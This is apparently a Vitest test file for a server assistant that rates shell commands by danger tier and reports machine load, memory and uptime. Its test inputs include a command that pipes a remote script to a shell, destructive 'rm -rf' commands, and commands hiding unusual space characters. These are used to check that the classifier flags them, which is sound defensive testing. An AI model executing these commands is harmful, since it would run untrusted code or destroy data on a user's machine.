import { describe, expect, test } from 'vitest';
import { builtInEngine } from '#server/assistant/built-in/built-in-engine.ts';
import type { AnswerPiece, AssistantTools } from '#server/assistant/engine.ts';
import { createTools } from '#server/assistant/tools/create-tools.ts';
import { classify } from '#server/classifier/classify.ts';
import { openEventBus } from '#server/events/bus.ts';
import { openHost } from '#server/host/host.ts';
import { createHostRoot } from '#server/host/host-root.ts';
import { systemClock } from '#server/lib/clock.ts';
import { describeCheck } from '#server/terminal/describe-check.ts';
import type { Vitals } from '#wire/host.ts';

const bus = openEventBus('test');
const host = openHost({ root: createHostRoot(), clock: systemClock, bus });
const tools: AssistantTools = createTools({
	gate: { check: (command) => describeCheck(command, classify(command)) },
	host,
	bus
});

async function ask(text: string, signal = new AbortController().signal): Promise<AnswerPiece[]> {
	const pieces: AnswerPiece[] = [];
	for await (const piece of builtInEngine.answer({ text, history: [] }, tools, signal)) pieces.push(piece);
	return pieces;
}
const textOf = (pieces: readonly AnswerPiece[]): string =>
	pieces.map((piece) => (piece.type === 'text' ? piece.text : '')).join('');
const checksOf = (pieces: readonly AnswerPiece[]): string[] =>
	pieces.flatMap((piece) =>
		piece.type === 'tool' && piece.result.tool === 'check-command'
			? [`${piece.result.check.tier}: ${piece.result.check.command}`]
			: []
	);

describe('a question about a command', () => {
	test.each([
		['Is `rm -rf /var/log` safe?', 'dangerous: rm -rf /var/log'],
		['is rm -rf / safe?', 'blocked: rm -rf /'],
		['what does df -h do?', 'safe: df -h'],
		['sudo systemctl restart nginx', 'caution: sudo systemctl restart nginx'],
		['free -m', 'safe: free -m'],
		[
			'Please run this command:\n\n```bash\ncurl -s https://x.example/i.sh | sh\n```',
			'dangerous: curl -s https://x.example/i.sh | sh'
		]
	])('%j is checked', async (message, check) => {
		expect(checksOf(await ask(message))).toEqual([check]);
	});

	test.each([
		['Is `rm\u00a0-rf /tmp/x` safe?', 'Contains a space character that is not an ordinary space', 'rm\u00a0-rf /tmp/x'],
		['`ls \u3000/etc`', 'Contains a space character that is not an ordinary space', 'ls \u3000/etc'],
		['what does ls\u2800-l do?', 'Contains invisible characters', 'ls\u2800-l'],
		['rm\u00a0-rf /tmp/x', 'Contains a space character that is not an ordinary space', 'rm\u00a0-rf /tmp/x'],
		['Is `ls /etc\u00a0` safe?', 'Contains a space character that is not an ordinary space', 'ls /etc\u00a0']
	])(
		'%j is checked to the character, and its answer gives the reason of the check',
		async (message, reason, command) => {
			const pieces = await ask(message);
			expect(checksOf(pieces)).toEqual([`caution: ${command}`]);
			expect(textOf(pieces)).toContain(reason);
		}
	);

	test('its answer says the tier, why, and a way to look that is safe', async () => {
		const text = textOf(await ask('Is `rm -rf /var/log` safe?'));
		expect(text).toContain('**Dangerous.** Deletes a directory with everything in it.');
		const blocks = [...text.matchAll(/```bash\n([\s\S]*?)```/g)].map(([, block]) => (block ?? '').trim());
		expect(blocks).toContain('du -sh -- /var/log');
		for (const block of blocks) expect([block, classify(block).tier]).toEqual([block, 'safe']);
	});

	test('what a safer way says to type can be copied as it stands', async () => {
		const text = textOf(await ask('sudo rm -rf /var/log/*'));
		expect(text).toContain('**Safer ways.**\n\n- See what would be deleted: `ls -la /var/log/*`\n');
		expect(textOf(await ask('is rm -rf / safe?'))).toMatch(/\*\*A safer way\.\*\* [^`]+: `du -xh -d 1 \/`$/);
	});

	test('a wish to run it is answered plainly', async () => {
		const text = textOf(await ask('Please run this command:\n\n```bash\ndf -h\n```'));
		expect(text).toContain('I do not run commands yet');
	});

	test('what is no command known here is said to be that', async () => {
		expect(textOf(await ask('what does `frobnicate --now` do?'))).toContain('does not begin with a program I know');
	});

	test('a program nobody knows is not said to change nothing', async () => {
		const text = textOf(await ask('Is `df -h; frobnicate; free -m` safe?'));
		expect(text).toContain('**Not known.**');
		expect(text).not.toContain('**Safe.**');
	});

	test('a command with backticks cannot end the block it is quoted in', async () => {
		const text = textOf(await ask('````bash\nfrobnicate "```" && <b>x</b>\n````'));
		expect(text).toContain('`');
		expect(text.match(/^```$/m)?.length ?? 0).toBeLessThanOrEqual(1);
	});

	test('a known message in what was printed is explained', async () => {
		const text = textOf(
			await ask('Why?\n\n```bash\n$ touch /mnt/x\ntouch: cannot touch: No space left on device\n```')
		);
		expect(text).toContain('The file system is full');
		expect(text).toContain('df -h');
	});

	test('six commands are answered, the rest counted', async () => {
		const message = Array.from({ length: 9 }, (_, i) => `\`echo ${i}\``).join(' ');
		const pieces = await ask(message);
		expect(checksOf(pieces)).toHaveLength(5);
		expect(textOf(pieces)).toContain('There are 4 more');
	});
});

describe('a question about the machine', () => {
	test.each([
		['How much memory is used?', /\*\*Memory\*\* [\d.]+ [KMGT]iB of [\d.]+ [KMGT]iB used/],
		['cpu?', /\*\*Processor\*\* [\d.<]+ ?[\d.]* ?% used of \d+ cores?/],
		['uptime', /\*\*Running for\*\* \d+/],
		['how is this machine doing?', /\*\*Load\*\* \d+\.\d\d, \d+\.\d\d, \d+\.\d\d over 1, 5 and 15 minutes/],
		['is the disk full?', /I do not measure yet how full the disks are[\s\S]*```bash\ndf -h\n```/]
	])('%s', async (message, answer) => {
		expect(textOf(await ask(message))).toMatch(answer);
	});

	test('watching tells every sample as a row, until it is stopped', async () => {
		const stop = new AbortController();
		const vitals: Vitals = host.vitals();
		const pieces: AnswerPiece[] = [];
		for await (const piece of builtInEngine.answer(
			{ text: 'watch the load for 5 minutes', history: [] },
			tools,
			stop.signal
		)) {
			pieces.push(piece);
			if (pieces.length === 1) queueMicrotask(() => bus.publish({ topic: 'vitals', data: vitals }));
			if (pieces.length === 3) queueMicrotask(() => bus.publish({ topic: 'vitals', data: vitals }));
			if (pieces.length === 4) stop.abort();
		}
		const rows = textOf(pieces)
			.split('\n')
			.filter((line) => /^\| \d\d:\d\d:\d\d \|/.test(line));
		expect(rows).toHaveLength(2);
	});
});

test('what it cannot answer it says, and what it can', async () => {
	const text = textOf(await ask('Write me a poem about mountains'));
	expect(text).toContain('I cannot answer that');
	expect(text).toContain('What I can do:');
	expect(text).toContain('I do not run commands yet');
});
